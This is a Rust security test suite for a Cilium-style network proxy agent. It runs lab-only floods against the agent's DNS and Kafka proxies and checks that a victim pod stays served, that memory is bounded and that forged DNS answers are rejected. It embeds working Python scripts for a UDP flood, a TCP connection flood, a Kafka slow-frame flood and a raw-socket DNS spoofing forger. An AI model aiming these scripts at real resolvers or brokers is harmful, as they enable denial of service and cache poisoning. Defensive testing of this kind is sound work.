//! Issue 13: floods against the DNS and Kafka proxies, from a lab pod,
//! and forged DNS answers from the world (finding 8),
//! with the real datapath. Root only; run one at a time:
//! `flock -o /run/portcullis-lab.lock cargo test --release -p portcullis --test attack_dns_kafka`.
//!
//! Each flood runs while another pod asks; the other pod's requests must
//! keep succeeding (>= 99%), the agent's RSS stays under
//! [`AGENT_RSS_BOUND_KIB`], and a policy change made during the flood
//! still applies.

#[path = "support/lab.rs"]
mod lab;

use std::process::Command;
use std::time::{Duration, Instant};

use lab::{TestLab, lab_guard, wait_until};

/// The agent's resident memory may not exceed this during a flood.
const AGENT_RSS_BOUND_KIB: u64 = 512 * 1024;

const TOPOLOGY: &str = r#"
namespaces:
  - {name: x, labels: {ns: x}}
pods:
  - {namespace: x, name: attacker, labels: {role: client}, ips: [10.200.1.10]}
  - {namespace: x, name: victim, labels: {role: client}, ips: [10.200.1.11]}
  - {namespace: x, name: dns, labels: {k8s-app: kube-dns}, ips: [10.200.1.53]}
world: {ips: [10.201.9.9]}
"#;

/// Both clients may ask for `names` (a DNS rule list).
fn policy(names: &str) -> String {
    format!(
        r#"
apiVersion: cilium.io/v2
kind: CiliumNetworkPolicy
metadata: {{name: clients-dns, namespace: x}}
spec:
  endpointSelector: {{matchLabels: {{role: client}}}}
  egress:
  - toEndpoints: [{{matchLabels: {{k8s-app: kube-dns}}}}]
    toPorts:
    - ports: [{{port: "53", protocol: ANY}}]
      rules:
        dns: {names}
  - toFQDNs: [{{matchPattern: "*.allowed.example"}}]
    toPorts:
    - ports: [{{port: "80", protocol: TCP}}]
"#
    )
}

const ZONE: &str = "$TTL 60
@ SOA ns.lab. hostmaster.lab. 1 3600 600 86400 60
@ NS ns.lab.
ns.lab. A 10.201.0.1
web.allowed.example. 60 A 10.201.9.9
flood.allowed.example. 60 A 10.201.9.9
";

/// A UDP flood: as many queries as one process sends in `secs` seconds
/// (at most 2,000,000), for an allowed name, without waiting for answers.
const UDP_FLOOD: &str = r#"
import socket, struct, sys, time
secs = float(sys.argv[1])
q = b"".join(bytes([len(l)]) + l.encode() for l in "flood.allowed.example".split(".")) + b"\0"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setblocking(False)
end = time.time() + secs
n = 0
while time.time() < end and n < 2000000:
    for _ in range(64):
        msg = struct.pack(">HHHHHH", n & 0xffff, 0x0100, 1, 0, 0, 0) + q + b"\0\x01\0\x01"
        try:
            s.sendto(msg, ("10.200.1.53", 53))
        except BlockingIOError:
            pass
        n += 1
print(n)
"#;

/// A TCP flood: `count` idle connections to the DNS server held for
/// `secs`; every one the proxy closes (or refuses) is opened again at
/// once, so the attacker always holds as many as it can.
const TCP_FLOOD: &str = r#"
import resource, select, socket, sys, time
count, secs = int(sys.argv[1]), float(sys.argv[2])
resource.setrlimit(resource.RLIMIT_NOFILE, (count + 100, count + 100))
end = time.time() + secs
def open_one():
    c = socket.socket()
    c.setblocking(False)
    try:
        c.connect(("10.200.1.53", 53))
    except BlockingIOError:
        pass
    except OSError:
        c.close()
        return None
    return c
conns = set()
while time.time() < end:
    while len(conns) < count:
        c = open_one()
        if c is None:
            break
        conns.add(c)
    poller = select.poll()
    by_fd = {c.fileno(): c for c in conns}
    for fd in by_fd:
        poller.register(fd, select.POLLIN | select.POLLERR | select.POLLHUP)
    for fd, _ in poller.poll(200):
        c = by_fd[fd]
        try:
            gone = c.recv(1, socket.MSG_PEEK) == b""
        except BlockingIOError:
            gone = False
        except OSError:
            gone = True
        if gone:
            conns.discard(c)
            c.close()
"#;

/// `n` sequential queries for `name` from `pod` (UDP or TCP), each with
/// one try and a 2 s timeout; how many got an answer with `status`.
fn ask_many(lab: &TestLab, pod: &str, name: &str, tcp: bool, n: usize, status: &str) -> usize {
    ask_many_tries(lab, pod, name, tcp, n, status, 1)
}

/// [`ask_many`] with `tries` attempts per query (a stub resolver's
/// retries: glibc makes 2 by default).
fn ask_many_tries(
    lab: &TestLab,
    pod: &str,
    name: &str,
    tcp: bool,
    n: usize,
    status: &str,
    tries: u8,
) -> usize {
    let ns = lab.netns(pod);
    let tries = format!("+tries={tries}");
    let mut ok = 0;
    for _ in 0..n {
        let mut args = vec![
            "netns",
            "exec",
            ns.as_str(),
            "dig",
            tries.as_str(),
            "+time=2",
            "@10.200.1.53",
            name,
        ];
        if tcp {
            args.push("+tcp");
        }
        let out = Command::new("ip").args(&args).output().expect("dig");
        if String::from_utf8_lossy(&out.stdout).contains(&format!("status: {status}")) {
            ok += 1;
        }
    }
    ok
}

/// The lab agent's resident set, KiB.
fn agent_rss_kib() -> u64 {
    let pid = std::fs::read_to_string("/run/portcullis/lab/agent.pid").expect("agent pid");
    let status =
        std::fs::read_to_string(format!("/proc/{}/status", pid.trim())).expect("agent status");
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.split_whitespace().next())
        .and_then(|v| v.parse().ok())
        .expect("VmRSS")
}

fn knot_lab() -> Option<(std::sync::MutexGuard<'static, ()>, TestLab)> {
    let guard = lab_guard()?;
    for tool in ["knotd", "dig", "python3"] {
        if Command::new("which")
            .arg(tool)
            .output()
            .map_or(true, |o| !o.status.success())
        {
            eprintln!("SKIP: needs {tool} (bash deploy/install-deps.sh)");
            return None;
        }
    }
    let mut lab = TestLab::up(
        "attack-dns",
        TOPOLOGY,
        &policy(r#"[{matchPattern: "*.allowed.example"}]"#),
        &[],
    );
    lab.serve_dns_zone("x/dns", ZONE);
    assert!(
        wait_until(Duration::from_secs(10), || ask_many(
            &lab,
            "x/victim",
            "web.allowed.example",
            false,
            1,
            "NOERROR"
        ) == 1),
        "knot answers through the proxy before the flood"
    );
    Some((guard, lab))
}

/// During a flood: the victim's UDP and TCP queries, the agent's RSS, and
/// a policy change (web.allowed.example denied, then allowed again).
fn victim_keeps_working(lab: &TestLab, what: &str) {
    let victim_udp = |tries| {
        ask_many_tries(
            lab,
            "x/victim",
            "web.allowed.example",
            false,
            100,
            "NOERROR",
            tries,
        )
    };
    let udp = victim_udp(1);
    // With a stub resolver's retries (2 attempts, glibc's default).
    let udp_retried = victim_udp(2);
    let tcp = ask_many(lab, "x/victim", "web.allowed.example", true, 100, "NOERROR");
    let rss = agent_rss_kib();
    eprintln!(
        "{what}: victim answered UDP {udp}/100 at one attempt, {udp_retried}/100 at two, TCP {tcp}/100; agent RSS {rss} KiB"
    );
    // A single attempt may meet a full socket queue while the flood runs
    // (measured: 98 to 100 of 100 on a loaded 2-core machine); a client
    // that retries as stub resolvers do must get every answer.
    assert!(udp >= 95, "{what}: victim UDP {udp}/100 at one attempt");
    assert!(
        udp_retried >= 99,
        "{what}: victim UDP {udp_retried}/100 at two attempts"
    );
    assert!(tcp >= 99, "{what}: victim TCP {tcp}/100");
    assert!(
        rss < AGENT_RSS_BOUND_KIB,
        "{what}: agent RSS {rss} KiB over {AGENT_RSS_BOUND_KIB}"
    );
    let start = Instant::now();
    lab.write_policy(&policy(r#"[{matchName: "flood.allowed.example"}]"#));
    let applied = wait_until(Duration::from_secs(10), || {
        ask_many(lab, "x/victim", "web.allowed.example", false, 1, "REFUSED") == 1
    });
    eprintln!(
        "{what}: policy change applied: {applied} after {:?}",
        start.elapsed()
    );
    lab.write_policy(&policy(r#"[{matchPattern: "*.allowed.example"}]"#));
    assert!(applied, "{what}: a policy change did not apply within 10 s");
    assert!(
        wait_until(Duration::from_secs(10), || ask_many(
            lab,
            "x/victim",
            "web.allowed.example",
            false,
            1,
            "NOERROR"
        ) == 1),
        "{what}: the policy change back did not apply"
    );
    let metrics = lab.metrics();
    for line in metrics.lines().filter(|l| {
        l.starts_with("portcullis_proxy_dns_limit_refusals_total")
            || l.starts_with("portcullis_proxy_dns_queries_total")
    }) {
        eprintln!("{what}: {line}");
    }
}

#[test]
fn dns_udp_flood_from_one_pod_leaves_another_pods_dns_working() {
    let Some((_guard, mut lab)) = knot_lab() else {
        return;
    };
    lab.spawn("x/attacker", &["python3", "-c", UDP_FLOOD, "60"]);
    std::thread::sleep(Duration::from_secs(2));
    victim_keeps_working(&lab, "DNS UDP flood");
}

#[test]
fn dns_tcp_connection_flood_from_one_pod_leaves_another_pods_dns_working() {
    let Some((_guard, mut lab)) = knot_lab() else {
        return;
    };
    lab.spawn("x/attacker", &["python3", "-c", TCP_FLOOD, "4400", "60"]);
    std::thread::sleep(Duration::from_secs(3));
    victim_keeps_working(&lab, "DNS TCP connection flood");
}

// ---- Kafka ----

const KAFKA_TOPOLOGY: &str = r#"
namespaces:
  - {name: x, labels: {ns: x}}
pods:
  - {namespace: x, name: attacker, labels: {role: client}, ips: [10.200.1.10]}
  - {namespace: x, name: victim, labels: {role: client}, ips: [10.200.1.11]}
  - {namespace: x, name: kafka, labels: {app: kafka}, ips: [10.200.1.92]}
"#;

/// Both clients may produce to `topic` on the broker pod.
fn kafka_policy(topic: &str) -> String {
    format!(
        r#"
apiVersion: cilium.io/v2
kind: CiliumNetworkPolicy
metadata: {{name: clients-kafka, namespace: x}}
spec:
  endpointSelector: {{matchLabels: {{role: client}}}}
  egress:
  - toEndpoints: [{{matchLabels: {{app: kafka}}}}]
    toPorts:
    - ports: [{{port: "9092", protocol: TCP}}]
      rules:
        kafka: [{{role: produce, topic: {topic}}}]
"#
    )
}

/// The victim: `n` connections, each one Produce to `payments`; prints
/// how many got the proxy's answer (TOPIC_AUTHORIZATION_FAILED while
/// `payments` is denied; nothing listens on the broker pod, so an allowed
/// request gets its connection closed instead).
const KAFKA_VICTIM: &str = r#"
import socket, struct, sys
sys.path.insert(0, sys.argv[2])
import kafka_probe as kp
n = int(sys.argv[1])
req = kp.request(0, 9, ["payments"])
req.with_header(correlation_id=4242, client_id="victim")
payload = req.encode(version=9, header=True, framed=True)
ok = 0
for _ in range(n):
    s = None
    try:
        s = socket.create_connection(("10.200.1.92", 9092), timeout=3)
        s.settimeout(5)
        s.sendall(payload)
        size = struct.unpack(">i", kp.read_exact(s, 4))[0]
        body = kp.read_exact(s, size)
        if struct.unpack(">i", body[:4])[0] == 4242 and struct.pack(">h", 29) in body:
            ok += 1
    except Exception:
        pass
    finally:
        if s:
            s.close()
print(ok)
"#;

/// The attacker, for `secs`: rounds of 200 connections announcing 64 MiB
/// frames, 300 announcing 15 MiB frames and stalling after 1 KiB, and 300
/// sending half a length and stalling; each round held 2 s.
const KAFKA_FLOOD: &str = r#"
import resource, socket, struct, sys, time
secs = float(sys.argv[1])
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
end = time.time() + secs
def open_send(data):
    c = socket.socket()
    c.settimeout(0.5)
    try:
        c.connect(("10.200.1.92", 9092))
        c.setblocking(False)
        c.send(data)
    except OSError:
        pass
    return c
while time.time() < end:
    conns = [open_send(struct.pack(">i", 64 << 20) + b"\0" * 65536) for _ in range(200)]
    conns += [open_send(struct.pack(">i", 15 << 20) + b"\0" * 1024) for _ in range(300)]
    conns += [open_send(b"\0\0") for _ in range(300)]
    time.sleep(2)
    for c in conns:
        c.close()
"#;

fn kafka_victim_answered(lab: &TestLab, n: usize) -> usize {
    let support = concat!(env!("CARGO_MANIFEST_DIR"), "/../proxy/tests/support");
    let n = n.to_string();
    lab.sh(
        "x/victim",
        &["timeout", "120", "python3", "-c", KAFKA_VICTIM, &n, support],
    )
    .parse()
    .unwrap_or(0)
}

#[test]
fn kafka_oversized_and_slow_frames_from_one_pod_leave_another_pods_requests_answered() {
    let Some(_guard) = lab_guard() else {
        return;
    };
    if Command::new("python3")
        .args(["-c", "import kafka"])
        .status()
        .map_or(true, |s| !s.success())
    {
        eprintln!("SKIP: needs kafka-python (pip)");
        return;
    }
    let mut lab = TestLab::up("attack-kafka", KAFKA_TOPOLOGY, &kafka_policy("orders"), &[]);
    assert_eq!(kafka_victim_answered(&lab, 3), 3, "before the flood");
    lab.spawn("x/attacker", &["python3", "-c", KAFKA_FLOOD, "90"]);
    std::thread::sleep(Duration::from_secs(3));
    let answered = kafka_victim_answered(&lab, 100);
    let rss = agent_rss_kib();
    eprintln!("Kafka flood: victim answered {answered}/100; agent RSS {rss} KiB");
    assert!(answered >= 99, "victim answered {answered}/100");
    assert!(
        rss < AGENT_RSS_BOUND_KIB,
        "agent RSS {rss} KiB over {AGENT_RSS_BOUND_KIB}"
    );
    // A policy change during the flood: payments allowed, so the proxy
    // forwards (and the absent broker closes) instead of denying.
    let start = Instant::now();
    lab.write_policy(&kafka_policy("payments"));
    let applied = wait_until(Duration::from_secs(10), || {
        kafka_victim_answered(&lab, 1) == 0
    });
    eprintln!(
        "Kafka flood: policy change applied: {applied} after {:?}",
        start.elapsed()
    );
    assert!(applied, "a policy change did not apply within 10 s");
    let metrics = lab.metrics();
    for line in metrics
        .lines()
        .filter(|l| l.starts_with("portcullis_proxy_kafka_limit_refusals_total"))
    {
        eprintln!("{line}");
    }
}

// ---- finding 8: forged DNS answers, through the real redirect ----

const SPOOF_TOPOLOGY: &str = r#"
namespaces:
  - {name: x, labels: {ns: x}}
pods:
  - {namespace: x, name: client, labels: {role: client}, ips: [10.200.1.10]}
world: {ips: [10.201.9.53, 10.201.9.9, 10.201.6.6]}
"#;

/// The client may ask the world's server for `*.allowed.example` and
/// connect to what `web.allowed.example` resolves to.
const SPOOF_POLICY: &str = r#"
apiVersion: cilium.io/v2
kind: CiliumNetworkPolicy
metadata: {name: client, namespace: x}
spec:
  endpointSelector: {matchLabels: {role: client}}
  egress:
  - toCIDR: [10.201.9.53/32]
    toPorts:
    - ports: [{port: "53", protocol: ANY}]
      rules:
        dns: [{matchPattern: "*.allowed.example"}]
  - toFQDNs: [{matchName: web.allowed.example}]
    toPorts:
    - ports: [{port: "80", protocol: TCP}]
"#;

/// A slow authoritative server on 10.201.9.53:53 (UDP): every A question
/// gets 10.201.9.9 (TTL 60), echoing the question as asked, 1.7 s late
/// (the proxy waits 2 s for the server).
const SLOW_DNS: &str = r#"
import socket, struct, threading, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("10.201.9.53", 53))
def answer(data, peer):
    time.sleep(1.7)
    qid = data[:2]
    end = 12
    while data[end] != 0:
        end += 1 + data[end]
    question = data[12:end + 5]
    rr = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + socket.inet_aton("10.201.9.9")
    s.sendto(qid + b"\x84\x00" + struct.pack(">HHHH", 1, 1, 0, 0) + question + rr, peer)
while True:
    data, peer = s.recvfrom(4096)
    if len(data) > 12:
        threading.Thread(target=answer, args=(data, peer), daemon=True).start()
"#;

/// The forger, in the world: from the server's address and port, to each
/// `addr:port` given, every one of the 65,536 ids, answering the question
/// as the attacker knows it (lowercase) with 10.201.6.6; prints how many
/// packets it sent.
const FORGER: &str = r#"
import socket, struct, sys
qname = b"".join(bytes([len(l)]) + l.encode() for l in "web.allowed.example".split(".")) + b"\0"
rr = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + socket.inet_aton("10.201.6.6")
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent = 0
for target in sys.argv[1:]:
    addr, port = target.rsplit(":", 1)
    port = int(port)
    dst = socket.inet_aton(addr)
    for qid in range(65536):
        dns = struct.pack(">HHHHHH", qid, 0x8400, 1, 1, 0, 0) + qname + b"\0\x01\0\x01" + rr
        udp = struct.pack(">HHHH", 53, port, 8 + len(dns), 0) + dns
        ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), qid, 0, 64, 17, 0,
                         socket.inet_aton("10.201.9.53"), dst)
        raw.sendto(ip + udp, (addr, 0))
        sent += 1
print(sent)
"#;

/// Whether a TCP connection from `pod` to `dst` gets the responder's `ok`.
fn tcp_ok(lab: &TestLab, pod: &str, dst: &str) -> bool {
    let script = format!(
        "import socket\ntry:\n s = socket.create_connection(('{dst}', 80), timeout=1)\n s.settimeout(1)\n print('ok' if s.recv(3).startswith(b'ok') else 'no')\nexcept Exception:\n print('no')\n"
    );
    lab.sh(pod, &["python3", "-c", &script]) == "ok"
}

/// The proxy's open upstream sockets toward the server: their local
/// `addr:port`, as `ss` in the node's namespace shows them. The attacker
/// is given the port, as in the finding; the id and the question's case
/// are what it must guess.
fn upstream_dns_sockets() -> Vec<String> {
    let out = Command::new("ip")
        .args([
            "netns",
            "exec",
            "pc-node",
            "ss",
            "-Hnua",
            "dst",
            "10.201.9.53:53",
        ])
        .output()
        .expect("ss");
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| l.split_whitespace().nth(3).map(str::to_string))
        .filter(|local| local.starts_with("10.") && !local.ends_with(":*"))
        .collect()
}

/// The DNS proxy's count of answers that matched no query in flight.
fn mismatched_answers(lab: &TestLab) -> u64 {
    let metrics = lab.metrics();
    metrics
        .lines()
        .filter(|l| l.starts_with("portcullis_proxy_dns_mismatched_answers"))
        .filter_map(|l| l.split_whitespace().last()?.parse::<f64>().ok())
        .sum::<f64>() as u64
}

#[test]
fn forged_dns_answers_from_the_world_are_not_learned_through_the_redirect() {
    let Some(_guard) = lab_guard() else {
        return;
    };
    for tool in ["dig", "python3", "ss"] {
        if Command::new("which")
            .arg(tool)
            .output()
            .map_or(true, |o| !o.status.success())
        {
            eprintln!("SKIP: needs {tool} (bash deploy/install-deps.sh)");
            return;
        }
    }
    let mut lab = TestLab::up("attack-dns-spoof", SPOOF_TOPOLOGY, SPOOF_POLICY, &[]);
    lab.spawn("world", &["python3", "-c", SLOW_DNS]);
    lab.serve_tcp("world", "80");
    assert!(
        !tcp_ok(&lab, "x/client", "10.201.6.6"),
        "the forged address is reachable before any answer"
    );
    let mut ports = std::collections::BTreeSet::new();
    // A round counts when most forged answers reached the open query; on
    // a loaded machine the forger may be too slow for some rounds, which
    // are then run again (at most 8 rounds for 3 that count). Every round,
    // counted or not, must give the client the real answer.
    let mut counted = 0;
    let mut rounds = 0;
    for round in 0..8 {
        if counted == 3 {
            break;
        }
        rounds += 1;
        let mismatched_before = mismatched_answers(&lab);
        // The client asks; its query waits 1.7 s at the server.
        let dig = Command::new("ip")
            .args(["netns", "exec", &lab.netns("x/client")])
            .args(["dig", "+tries=1", "+time=8", "+short", "@10.201.9.53"])
            .arg("web.allowed.example")
            .stdout(std::process::Stdio::piped())
            .spawn()
            .expect("dig");
        let mut targets = Vec::new();
        assert!(
            wait_until(Duration::from_secs(2), || {
                targets = upstream_dns_sockets();
                !targets.is_empty()
            }),
            "round {round}: no upstream socket of the proxy toward the server"
        );
        ports.extend(targets.iter().cloned());
        let mut args = vec!["python3", "-c", FORGER];
        args.extend(targets.iter().map(String::as_str));
        let sent = lab.sh("world", &args);
        let answer = dig.wait_with_output().expect("dig output");
        let answer = String::from_utf8_lossy(&answer.stdout).trim().to_string();
        eprintln!("round {round}: forged {sent} answers to {targets:?}; the client got {answer:?}");
        assert!(
            sent.parse::<usize>().unwrap_or(0) >= 65_536,
            "round {round}: the forger did not run: {sent:?}"
        );
        assert_eq!(
            answer, "10.201.9.9",
            "round {round}: the client did not get the server's real answer"
        );
        // Most of the forged answers reached the proxy's socket while the
        // query was in flight (else the test proves nothing): each was
        // dropped and counted. On a loaded machine the forger may not send
        // all 65,536 within the server's delay; the base code learned the
        // forged address in the first round all the same.
        let dropped = mismatched_answers(&lab) - mismatched_before;
        eprintln!("round {round}: the proxy dropped {dropped} answers matching no query");
        if dropped >= 40_000 {
            counted += 1;
        }
    }
    assert_eq!(
        counted, 3,
        "fewer than 3 of {rounds} rounds got most forged answers to the open query"
    );
    assert_eq!(
        ports.len(),
        rounds,
        "each query gets a fresh upstream source port: {ports:?}"
    );
    assert!(
        !tcp_ok(&lab, "x/client", "10.201.6.6"),
        "the forged address was learned: the client connected to it"
    );
    assert!(
        tcp_ok(&lab, "x/client", "10.201.9.9"),
        "the real answer was not learned"
    );
}
